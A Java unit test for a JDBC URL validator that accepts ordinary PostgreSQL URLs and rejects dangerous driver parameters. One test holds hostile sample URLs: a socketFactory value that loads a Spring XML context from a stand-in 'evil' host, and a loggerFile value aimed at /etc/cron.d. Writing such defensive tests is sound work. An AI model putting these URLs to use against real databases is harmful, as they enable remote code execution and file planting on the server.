package dev.pacer.ingest.jdbc;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class JdbcUrlsTest {
    @Test
    void acceptsOrdinaryJdbcUrls() {
        assertThat(JdbcUrls.problem("jdbc:postgresql://erp:5432/northwind")).isNull();
        assertThat(JdbcUrls.problem("jdbc:postgresql://erp/northwind?ssl=true&sslmode=verify-full")).isNull();
    }

    @Test
    void refusesWhatIsNotAJdbcUrl() {
        assertThat(JdbcUrls.problem("")).contains("JDBC URL");
        assertThat(JdbcUrls.problem("http://erp/northwind")).contains("starting with jdbc:");
        assertThat(JdbcUrls.problem("jdbc:postgresql://erp/db\nx")).isNotNull();
    }

    @Test
    void refusesDriverParametersThatLoadClassesOrFiles() {
        assertThat(JdbcUrls.problem("jdbc:postgresql://erp/db?socketFactory=org.springframework.context.support."
                + "ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml"))
                .contains("'socketFactory'");
        assertThat(JdbcUrls.problem("jdbc:postgresql://erp/db?ssl=true&SSLFACTORY=x.Y")).contains("SSLFACTORY");
        assertThat(JdbcUrls.problem("jdbc:postgresql://erp/db?loggerFile=/etc/cron.d/x")).contains("loggerFile");
    }
}
